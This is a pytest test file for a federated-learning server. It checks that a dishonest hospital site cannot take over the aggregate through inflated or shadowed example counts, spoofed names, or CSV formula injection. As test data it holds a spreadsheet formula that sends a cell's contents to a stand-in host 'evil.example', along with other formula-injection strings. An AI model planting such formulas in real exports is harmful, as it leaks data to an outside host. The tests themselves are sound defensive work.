"""A participant must not control the aggregate (issue #29.1-2).

Sites here train nothing (``helpers.hostile.FakeSite``: the weights sent plus a small offset),
so each run of the real server loop takes well under a second; one site of three lies.

1. Its example count: a shadow key (``num_examples`` next to ``num-examples``), a count far
   above the others, or one that grows after the first round. The reply check and the
   aggregation read one number, the site's first declaration bounds it, and metrics.jsonl
   records the number that was used.
2. Its name: not a site name (a spreadsheet formula), or the name of another site. Names are
   bound to nodes; a formula never reaches a CSV cell as a formula.
"""
from __future__ import annotations

import csv
import logging

import numpy as np
import pytest

from helpers.hostile import FakeSite, HostileGrid, checkpoint_arrays, hostile_settings, metrics_rows
from server.federation import Federation

STRATEGIES = ["fedavg", "fedprox", "fedadam", "fedmedian", "fedtrimmedavg"]
HONEST = {"num-examples": 3}


def _run(run_dir, sites, **kw) -> dict:
    return Federation(HostileGrid(sites), hostile_settings(run_dir, **kw)).run()


def _same(a: dict, b: dict) -> bool:
    return a.keys() == b.keys() and all(np.array_equal(a[k], b[k]) for k in a)


def _honest_pair():
    return [FakeSite("hospital_a", 0.01), FakeSite("hospital_b", 0.02)]


# ------------------------------------------------------------------------------------------
# 1. the example count
# ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("strategy", STRATEGIES)
def test_a_shadowed_example_count_cannot_hijack_the_aggregate(tmp_path, strategy):
    """The liar's reply says 1e12 cases to the aggregation and 3 (``num_examples``) to the check:
    FedAvg used to weight it by 1e12 (the global model became the liar's weights) while
    metrics.jsonl said 3. Now both read 1e12, which is over max-num-examples: rejected."""
    liar = FakeSite("hospital_c", 0.03, metrics=lambda rnd: {"num-examples": 1e12, "num_examples": 3.0})
    _run(tmp_path / "ref", _honest_pair(), strategy=strategy)
    out = _run(tmp_path / "run", [*_honest_pair(), liar], strategy=strategy)
    assert out["status"] == "complete"
    rejected = metrics_rows(tmp_path / "run", "rejected")
    assert [r["site"] for r in rejected] == ["hospital_c"] and "num-examples" in rejected[0]["reason"], rejected
    assert rejected[0]["num_examples"] == 1e12  # the number the check read, recorded as such
    trained = metrics_rows(tmp_path / "run", "train")
    assert {r["site"]: r["num_examples"] for r in trained} == {"hospital_a": 3, "hospital_b": 3}
    # the global model is what the two honest sites alone give
    got, ref = checkpoint_arrays(tmp_path / "run", 1), checkpoint_arrays(tmp_path / "ref", 1)
    assert _same(got, ref)


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_an_example_count_that_grows_after_the_first_round_is_bounded_and_logged(tmp_path, strategy, caplog):
    """3 cases declared at round 1, 90000 (under max-num-examples) at round 2: weighted by 3, and
    metrics.jsonl says both (what was used and what was claimed)."""
    def greedy(rnd):
        return {"num-examples": 3 if rnd == 1 else 90000}

    _run(tmp_path / "ref", [*_honest_pair(), FakeSite("hospital_c", 0.03)], strategy=strategy, **{"unet-rounds": 2})
    caplog.set_level(logging.WARNING, logger="flwr.addiff")
    _run(tmp_path / "run", [*_honest_pair(), FakeSite("hospital_c", 0.03, metrics=greedy)], strategy=strategy,
         **{"unet-rounds": 2})
    row = [r for r in metrics_rows(tmp_path / "run", "train") if r["site"] == "hospital_c" and r["round"] == 2][0]
    assert row["num_examples"] == 3 and row["num_examples_claimed"] == 90000, row
    assert metrics_rows(tmp_path / "run", "round")[1]["num_examples"] == 9
    assert "hospital_c" in caplog.text and "90000" in caplog.text
    assert _same(checkpoint_arrays(tmp_path / "run", 2), checkpoint_arrays(tmp_path / "ref", 2))


def test_the_first_declaration_survives_a_resume(tmp_path):
    """The bound is read back from metrics.jsonl: stopping and resuming does not reset it."""
    def greedy(rnd):
        return {"num-examples": 3 if rnd == 1 else 90000}

    sites = [*_honest_pair(), FakeSite("hospital_c", 0.03, metrics=greedy)]
    run_dir = tmp_path / "run"
    assert _run(run_dir, sites, **{"unet-rounds": 2, "stop-after-round": 1})["status"] == "stopped"
    grid = HostileGrid(sites)
    grid.round = 2
    Federation(grid, hostile_settings(run_dir, **{"unet-rounds": 2, "resume": True})).run()
    row = [r for r in metrics_rows(run_dir, "train") if r["site"] == "hospital_c" and r["round"] == 2][0]
    assert row["num_examples"] == 3 and row["num_examples_claimed"] == 90000


def test_site_metrics_never_shadow_the_servers_keys(tmp_path, caplog):
    """A site's metric keys that name a field of the server's rows (in any spelling) are dropped:
    they cannot rename the row's site, change its kind or its example count."""
    def shadow(rnd):
        return {"num-examples": 3, "Num_Examples": 999.0, "site": 5.0, "kind": 1.0, "node_id": 7.0,
                "update_norm": 0.0, "bytes_up": 0.0, "train_loss": 0.5}

    caplog.set_level(logging.WARNING, logger="flwr.addiff")
    _run(tmp_path / "run", [*_honest_pair(), FakeSite("hospital_c", 0.03, metrics=shadow)])
    row = [r for r in metrics_rows(tmp_path / "run", "train") if r["node_id"] == 2002][0]
    assert row["site"] == "hospital_c" and row["kind"] == "train" and row["num_examples"] == 3
    assert row["update_norm"] > 0 and row["bytes_up"] > 0 and row["train_loss"] == 0.5
    assert "Num_Examples" not in row and sorted(row["ignored_metrics"]) == sorted(
        ["Num_Examples", "site", "kind", "node_id", "update_norm", "bytes_up"])
    assert "ignored" in caplog.text


@pytest.mark.parametrize("cases", [1e12, float("nan"), -2.0])
def test_an_implausible_held_out_case_count_is_rejected(tmp_path, cases):
    """The final table weights each site's metrics by its held-out cases: a count of 1e12 took
    the all-sites row over, NaN stopped the run at its very end (int(nan))."""
    liar = FakeSite("hospital_c", 0.03, eval_metrics={"num-examples": cases})
    out = _run(tmp_path / "run", [*_honest_pair(), liar])
    assert out["status"] == "complete"
    bad = [r for r in metrics_rows(tmp_path / "run", "rejected") if r["stage"] == "final"]
    assert [r["site"] for r in bad] == ["hospital_c"] and "num-examples" in bad[0]["reason"]
    final = {r["site"]: r for r in metrics_rows(tmp_path / "run", "final")}
    assert final["hospital_c"]["status"].startswith("final evaluation rejected: num-examples")
    overall = [r for r in csv.DictReader((tmp_path / "run" / "final_metrics.csv").open()) if r["site"].startswith("all")]
    assert float(overall[0]["mae_gy"]) == pytest.approx(1.5)  # hospital_a 1.0 and hospital_b 2.0, 2 cases each


# ------------------------------------------------------------------------------------------
# 2. the name
# ------------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_reply_name_that_is_not_a_site_name_is_rejected_and_never_a_formula_cell(tmp_path):
    liar = FakeSite(FORMULA, 0.03, eval_name=FORMULA)
    # a site with a good name whose metric names are formulas (they become column headers)
    b = FakeSite("hospital_b", 0.02, eval_metrics={FORMULA: 1.0, "@SUM(A1)": -2.5, "-2+3": 0.0})
    out = _run(tmp_path / "run", [FakeSite("hospital_a", 0.01), b, liar])
    assert out["status"] == "complete"
    rejected = metrics_rows(tmp_path / "run", "rejected")  # its train and its evaluate reply
    assert [(r["stage"], r["site"]) for r in rejected] == [("unet", "node-2002"), ("final", "node-2002")]
    assert all("not a valid site name" in r["reason"] for r in rejected) and FORMULA not in str(rejected)
    assert metrics_rows(tmp_path / "run", "round")[0]["sites"] == ["hospital_a", "hospital_b"]
    table = list(csv.reader((tmp_path / "run" / "final_metrics.csv").open()))
    cells = [c for row in table for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))], table
    assert {r[0] for r in table[1:]} >= {"hospital_a", "hospital_b"} and FORMULA not in cells
    assert {"'" + FORMULA, "'@SUM(A1)", "'-2+3"} <= set(table[0]) and "-2.5" in cells  # shown as text; numbers stay


@pytest.mark.parametrize("value,cell", [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("+2e-3", "+2e-3"), ("hospital_a", "hospital_a"), ("", ""),
    (-1.5, -1.5), (None, None), ("a=b", "a=b"),
])
def test_csv_cells_are_never_formulas(value, cell):
    from addiff_core.formats import csv_cell

    assert csv_cell(value) == cell


def test_every_csv_the_project_writes_goes_through_the_one_neutralising_writer(tmp_path):
    """The final table and the DVH tables of ``predict`` neutralise their cells; no other module
    writes CSV by itself."""
    import re
    from pathlib import Path

    from addiff_core.predict import _write_table
    from addiff_core.site_table import csv_text

    text = csv_text([{"site": "hospital_a", "cases": 2, "=cmd": -1.0}])
    assert text.splitlines()[0] == "site,cases,'=cmd" and "-1.0" in text
    _write_table(tmp_path / "dvh.csv", [{"structure": "=HYPERLINK(1)", "D95": 1.0}])
    assert list(csv.reader((tmp_path / "dvh.csv").open()))[1] == ["'=HYPERLINK(1)", "1.0"]
    root = Path(__file__).resolve().parents[1]
    writers = [p.relative_to(root).as_posix() for d in ("addiff_core", "server", "client") for p in (root / d).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\b", p.read_text())]
    assert writers == ["addiff_core/formats.py"], writers


def _number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def test_a_second_node_claiming_a_known_name_is_refused(tmp_path):
    """A phantom fourth SuperNode joins at round 2 and answers as hospital_a: it is refused
    (training and evaluation), the real hospital_a keeps its row and its weight."""
    phantom = FakeSite("hospital_a", 0.05, joins=2)
    sites = [*_honest_pair(), FakeSite("hospital_c", 0.03), phantom]
    _run(tmp_path / "ref", sites[:3], **{"unet-rounds": 2})
    out = _run(tmp_path / "run", sites, **{"unet-rounds": 2})
    assert out["status"] == "complete"
    rejected = metrics_rows(tmp_path / "run", "rejected")  # its train and its evaluate reply
    assert [(r["stage"], r["site"], r["node_id"]) for r in rejected] == [("unet", "node-2003", 2003),
                                                                         ("final", "node-2003", 2003)], rejected
    assert "hospital_a" in rejected[0]["reason"] and "node 2000" in rejected[0]["reason"]
    assert _same(checkpoint_arrays(tmp_path / "run", 2), checkpoint_arrays(tmp_path / "ref", 2))
    final = {r["site"]: r for r in metrics_rows(tmp_path / "run", "final")}
    assert final["hospital_a"]["mae_gy"] == pytest.approx(1.0) and final["hospital_a"]["status"] == "ok"
    assert "node-2003" not in final or final["node-2003"]["cases"] == 0


def test_two_nodes_claiming_one_unbound_name_are_both_refused(tmp_path):
    """Which of two nodes is "hospital_a" cannot be told at the first round: neither is used
    (the run goes on with the others) rather than whichever node id sorts first."""
    sites = [*_honest_pair(), FakeSite("hospital_c", 0.03), FakeSite("hospital_a", 0.05)]
    _run(tmp_path / "run", sites)
    rejected = metrics_rows(tmp_path / "run", "rejected")
    assert sorted((r["stage"], r["site"]) for r in rejected) == [
        ("final", "node-2000"), ("final", "node-2003"), ("unet", "node-2000"), ("unet", "node-2003")]
    assert metrics_rows(tmp_path / "run", "round")[0]["sites"] == ["hospital_b", "hospital_c"]


def test_a_node_may_not_change_its_name(tmp_path):
    """hospital_c's node answers as hospital_b in round 2 (while hospital_b is connected): refused."""
    turncoat = FakeSite("hospital_c", 0.03)
    sites = [*_honest_pair(), turncoat]
    grid = HostileGrid(sites)
    fed = Federation(grid, hostile_settings(tmp_path / "run", **{"unet-rounds": 2}))
    orig = turncoat.train

    def train(msg):
        turncoat.name = "hospital_c" if int(msg.content["config"]["server-round"]) == 1 else "hospital_b"
        return orig(msg)

    turncoat.train = train
    fed.run()
    rejected = metrics_rows(tmp_path / "run", "rejected")
    assert [(r["stage"], r["site"]) for r in rejected] == [("unet", "hospital_c"), ("final", "hospital_c")], rejected
    assert "hospital_b" in rejected[0]["reason"]
